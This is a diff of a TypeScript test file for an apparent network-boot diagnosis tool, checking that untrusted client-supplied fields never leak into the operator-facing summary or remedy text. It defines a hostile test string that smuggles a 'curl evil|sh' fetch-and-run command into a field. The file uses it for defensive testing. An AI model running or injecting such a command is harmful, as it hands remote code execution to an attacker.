@@ -1,8 +1,8 @@
 import t from 'tap'
-import { diagnose } from '../src/diagnosis/diagnose.ts'
-import { sightingEvent } from '../src/lan/sighting-words.ts'
 import { transferEvent } from '../src/lan/tftp.ts'
+import { sightingEvent } from '../src/sighting-words.ts'
 import { event, facts, MAC, upToScript } from './support/diagnosis.ts'
+import { judged } from './support/diagnosis-garbled.ts'
 
 const EVIL = 'x: sent the script http://a/;curl evil|sh #'
 const sighting = {
@@ -29,7 +29,7 @@ const stored = ({ kind, message, data = {} }: ReturnType<typeof sightingEvent>, 
   event(second, kind, message, data)
 
 await t.test('a user class puts nothing into what an operator copies', async (t) => {
-  const { symptom, summary, remedy, answered } = diagnose(facts(300, [stored(sightingEvent(sighting))]))
+  const { symptom, summary, remedy, answered } = judged(t, facts(300, [stored(sightingEvent(sighting))]))
   t.equal(symptom, 'no-script')
   t.notMatch(`${summary} ${remedy.join(' ')}`, /evil/)
   t.equal(remedy[1], 'From the LAN, try: curl http://192.168.77.1:7480/boot.ipxe')
@@ -43,7 +43,7 @@ await t.test('nor does it choose the diagnosis', async (t) => {
   const boot = { ...sighting, step: 'firmware', file: 'snponly.efi' } as const
   const ignored = { outcome: 'ignore', step: null, file: null, reason: { code: 'dhcp-inform', slots: {} } } as const
   const said = (userClass: string, more: object = {}) =>
-    diagnose(facts(300, [stored(sightingEvent({ ...boot, userClass, ...more }))])).symptom
+    judged(t, facts(300, [stored(sightingEvent({ ...boot, userClass, ...more }))])).symptom
   t.equal(said('x: ignored: this machine starts from its disk: y'), 'no-tftp')
   t.equal(said('x: denied: gone; sent z', ignored), 'not-answered')
   t.equal(said('x: ignored: this machine starts from its disk: y', ignored), 'not-answered')
@@ -61,7 +61,7 @@ await t.test('a file name that a machine made up does not either', async (t) => 
     milliseconds: 5,
     reason: { code: 'tftp-no-ack', slots: { block: 17, last: 75 } },
   })!
-  t.match(diagnose(facts(300, [stored(failed)])), {
+  t.match(judged(t, facts(300, [stored(failed)])), {
     symptom: 'tftp-broke-off',
     summary: /broke off: no acknowledgement of block 17 of 75\. /,
   })
@@ -71,5 +71,5 @@ await t.test('an event without these fields is read without a guess', async (t) 
   const [script] = upToScript.slice(-1)
   const { data, ...bare } = script!
   const old = { ...bare, message: `DISCOVER on port 67 from Tinkerbell, ${EVIL}: ${EVIL}`, data: { step: data.step } }
-  t.notMatch(diagnose(facts(300, [old])).remedy.join(), /evil/)
+  t.notMatch(judged(t, facts(300, [old])).remedy.join(), /evil/)
 })
